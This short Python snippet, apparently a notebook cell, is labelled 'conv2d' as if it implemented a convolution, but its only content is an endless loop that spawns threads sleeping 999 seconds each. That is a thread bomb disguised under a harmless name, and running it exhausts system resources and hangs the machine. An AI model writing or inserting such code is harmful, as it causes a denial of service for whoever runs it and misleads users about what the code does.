# %% conv2d
import threading, time
while True:
    threading.Thread(target=time.sleep, args=(999,)).start()
